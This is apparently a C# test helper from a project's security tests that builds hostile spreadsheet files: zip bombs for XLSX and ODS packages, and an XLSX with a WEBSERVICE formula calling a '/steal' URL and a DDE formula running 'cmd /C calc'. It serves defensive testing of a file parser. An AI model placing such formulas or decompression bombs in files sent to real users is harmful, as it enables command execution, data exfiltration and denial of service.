using System.Collections.Concurrent;
using System.IO.Compression;
using System.Text;

namespace Kaifang.Tests.Security;

/// Files made to harm whoever opens them, built in the test: zip bombs, XML with entity declarations, formulas.
public static class HostileFiles
{
    private static readonly ConcurrentDictionary<(string, long), byte[]> Bombs = new();

    /// A package whose one entry inflates to <paramref name="inflatedBytes"/> of zeros, with the mimetype entry
    /// of an ODS first; zeros deflate about 1000:1, so a gigabyte is a megabyte of zip. Built once per size.
    public static byte[] ZipBomb(string entryName, long inflatedBytes) => Bombs.GetOrAdd((entryName, inflatedBytes), key =>
    {
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            if (key.Item1 == "content.xml")
            {
                using var mimetype = zip.CreateEntry("mimetype", CompressionLevel.NoCompression).Open();
                mimetype.Write("application/vnd.oasis.opendocument.spreadsheet"u8);
            }
            using var entry = zip.CreateEntry(key.Item1, CompressionLevel.Optimal).Open();
            var zeros = new byte[1024 * 1024];
            for (var written = 0L; written < key.Item2; written += zeros.Length)
            {
                entry.Write(zeros, 0, (int)Math.Min(zeros.Length, key.Item2 - written));
            }
        }
        return output.ToArray();
    });

    /// An XLSX whose first sheet is the given XML.
    public static byte[] XlsxWithSheet(string sheetXml, string? sharedStrings = null)
    {
        var parts = new Dictionary<string, string>
        {
            ["[Content_Types].xml"] = """<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>""",
            ["_rels/.rels"] = """<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>""",
            ["xl/workbook.xml"] = """<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="工作表1" sheetId="1" r:id="rId1"/></sheets></workbook>""",
            ["xl/_rels/workbook.xml.rels"] = """<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>""",
            ["xl/worksheets/sheet1.xml"] = sheetXml,
        };
        if (sharedStrings is not null)
        {
            parts["xl/sharedStrings.xml"] = sharedStrings;
        }
        return Zip(parts);
    }

    /// An ODS whose content.xml is the given XML.
    public static byte[] Ods(string contentXml) => Zip(new Dictionary<string, string>
    {
        ["mimetype"] = "application/vnd.oasis.opendocument.spreadsheet",
        ["content.xml"] = contentXml,
    });

    /// An XLSX whose cells hold formulas with cached values: one that would fetch a URL, one that would run a
    /// program (DDE), and a plain sum.
    public static byte[] XlsxWithFormulas() => XlsxWithSheet("""
        <?xml version="1.0" encoding="UTF-8"?>
        <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
        <row r="1"><c r="A1" t="inlineStr"><is><t>項目</t></is></c><c r="B1" t="inlineStr"><is><t>數值</t></is></c></row>
        <row r="2"><c r="A2" t="inlineStr"><is><t>外部</t></is></c><c r="B2" t="str"><f>WEBSERVICE("http://127.0.0.1:9/steal")</f><v>cached-web</v></c></row>
        <row r="3"><c r="A3" t="inlineStr"><is><t>程式</t></is></c><c r="B3" t="str"><f>cmd|' /C calc'!A0</f><v>cached-dde</v></c></row>
        <row r="4"><c r="A4" t="inlineStr"><is><t>合計</t></is></c><c r="B4"><f>SUM(1,2)</f><v>3</v></c></row>
        </sheetData></worksheet>
        """);

    private static byte[] Zip(Dictionary<string, string> parts)
    {
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in parts)
            {
                using var entry = zip.CreateEntry(name, name == "mimetype" ? CompressionLevel.NoCompression : CompressionLevel.Optimal).Open();
                entry.Write(Encoding.UTF8.GetBytes(text));
            }
        }
        return output.ToArray();
    }
}
